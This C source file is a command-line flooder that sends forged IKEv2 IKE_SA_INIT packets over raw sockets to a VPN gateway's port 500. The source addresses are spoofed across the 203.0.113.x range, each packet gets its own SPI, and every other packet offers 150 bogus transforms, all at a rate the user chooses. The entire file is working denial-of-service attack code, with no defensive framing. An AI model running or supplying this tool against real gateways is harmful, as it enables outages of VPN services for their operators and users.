/* Somebody who floods a gateway with first messages from addresses that are not his, each with
 * an SPI of its own: every other one lists 150 transforms that nobody has, the others an
 * offer that most would take.
 *   flooder GATEWAY PER_SECOND SECONDS
 *
 * SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { IP_LEN = 20, UDP_LEN = 8, JUNK = 150, OCTETS = 2048, IKE_PORT = 500, TICK_MS = 10 };

struct octets {
    uint8_t b[OCTETS];
    size_t n;
};

static void put(struct octets *o, uint32_t value, unsigned len)
{
    for (unsigned i = len; i-- > 0;)
        o->b[o->n++] = (uint8_t)(value >> (8 * i));
}

static void set_length(struct octets *o, size_t at, size_t from)
{
    o->b[at] = (uint8_t)((o->n - from) >> 8);
    o->b[at + 1] = (uint8_t)(o->n - from);
}

static void put_transform(struct octets *o, uint8_t type, uint16_t id, uint16_t bits, int last)
{
    put(o, last ? 0 : 0x03000000U >> 24, 1);
    put(o, 0, 1);
    put(o, bits != 0 ? 12 : 8, 2);
    put(o, (uint32_t)type << 8, 2);
    put(o, id, 2);
    if (bits != 0)
        put(o, 0x800e0000U | bits, 4);
}

static void put_sa(struct octets *o, int junk)
{
    const size_t sa = o->n;

    put(o, 0x22000000U, 4); /* KE follows */
    put(o, 0, 4);
    put(o, 0x01010000U | (junk ? JUNK : 3), 4); /* proposal 1, IKE */
    for (unsigned i = 0; junk && i < JUNK; i++)
        put_transform(o, (uint8_t)(1 + i % 4), (uint16_t)(40000 + i), 0, i + 1 == JUNK);
    if (!junk) {
        put_transform(o, 1, 20, 128, 0); /* AES-GCM-16 */
        put_transform(o, 2, 5, 0, 0);    /* PRF-HMAC-SHA2-256 */
        put_transform(o, 4, 31, 0, 1);   /* X25519 */
    }
    set_length(o, sa + 6, sa + 4);
    set_length(o, sa + 2, sa);
}

static void write_packet(struct octets *o, const struct in_addr *to, int junk)
{
    *o = (struct octets){.n = IP_LEN + UDP_LEN};
    put(o, 0, 4); /* SPIs */
    put(o, 0, 4);
    put(o, 0, 4);
    put(o, 0, 4);
    put(o, 0x21202208U, 4); /* SA follows; version 2, IKE_SA_INIT, initiator */
    put(o, 0, 4);
    put(o, 0, 4);
    put_sa(o, junk);
    put(o, 0x28000028U, 4); /* KE of 32 octets, a nonce follows */
    put(o, 31U << 16, 4);
    for (unsigned i = 0; i < 32; i++)
        put(o, 9 + i, 1);
    put(o, 36, 4); /* nonce */
    o->n += 32;
    set_length(o, IP_LEN + UDP_LEN + 26, IP_LEN + UDP_LEN);
    o->b[0] = 0x45;
    set_length(o, 2, 0);
    o->b[8] = 64;
    o->b[9] = IPPROTO_UDP;
    memcpy(o->b + 16, to, sizeof(*to));
    o->b[IP_LEN] = o->b[IP_LEN + 2] = IKE_PORT >> 8;
    o->b[IP_LEN + 1] = o->b[IP_LEN + 3] = IKE_PORT & 0xff;
    set_length(o, IP_LEN + 4, IP_LEN); /* no checksum */
}

static void wait_until(struct timespec *at)
{
    at->tv_nsec += TICK_MS * 1000000L;
    if (at->tv_nsec >= 1000000000L) {
        at->tv_nsec -= 1000000000L;
        at->tv_sec++;
    }
    (void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, at, NULL);
}

int main(int argc, char **argv)
{
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct sockaddr_in to = {.sin_family = AF_INET};
    static struct octets kinds[2];
    unsigned long per_tick, ticks, sent = 0;
    struct timespec at;

    if (argc != 4 || fd < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
        return 1;
    per_tick = strtoul(argv[2], NULL, 10) * TICK_MS / 1000;
    ticks = strtoul(argv[3], NULL, 10) * 1000 / TICK_MS;
    write_packet(&kinds[0], &to.sin_addr, 0);
    write_packet(&kinds[1], &to.sin_addr, 1);
    clock_gettime(CLOCK_MONOTONIC, &at);
    for (unsigned long t = 0; t < ticks; t++, wait_until(&at)) {
        for (unsigned long i = 0; i < per_tick; i++, sent++) {
            struct octets *o = &kinds[sent % 2];
            const uint32_t from = htonl(0xcb007100U | (uint32_t)(sent % 250 + 1));
            const uint32_t spi = htonl((uint32_t)sent + 1);

            memcpy(o->b + 12, &from, sizeof(from)); /* 203.0.113.x */
            memcpy(o->b + IP_LEN + UDP_LEN, &spi, sizeof(spi));
            (void)sendto(fd, o->b, o->n, 0, (const struct sockaddr *)&to, sizeof(to));
        }
    }
    printf("%lu\n", sent);
    return 0;
}
